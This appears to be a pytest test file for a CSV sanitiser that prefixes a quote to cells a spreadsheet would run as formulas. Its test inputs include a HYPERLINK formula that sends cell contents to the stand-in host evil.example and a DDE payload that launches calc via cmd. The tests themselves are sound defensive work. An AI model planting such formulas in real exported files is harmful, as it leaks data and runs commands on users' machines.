"""opensure.core.csvsafe: cells a spreadsheet would run as a formula come out as text."""

from __future__ import annotations

import csv
import io

import pytest

from opensure.core.csvsafe import cell, row


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+44 20 7946 0000",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_start_gets_a_leading_quote(value: str) -> None:
    assert cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("Quick and friendly", "Quick and friendly"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("'already quoted", "'already quoted"),
        ("", ""),
        (None, ""),
        (9, "9"),
        ("émoji 🎉", "émoji 🎉"),
    ],
)
def test_other_cells_are_left_as_they_are(value: object, shown: str) -> None:
    assert cell(value) == shown


def test_a_row_written_and_read_back_keeps_every_neutralised_cell() -> None:
    values = ["=cmd|' /C calc'!A0", "line one\nline two", 'say "hi"', None, "@x", 7]
    out = io.StringIO()
    csv.writer(out).writerow(row(values))
    (back,) = csv.reader(io.StringIO(out.getvalue()))
    assert back == ["'=cmd|' /C calc'!A0", "line one\nline two", 'say "hi"', "", "'@x", "7"]
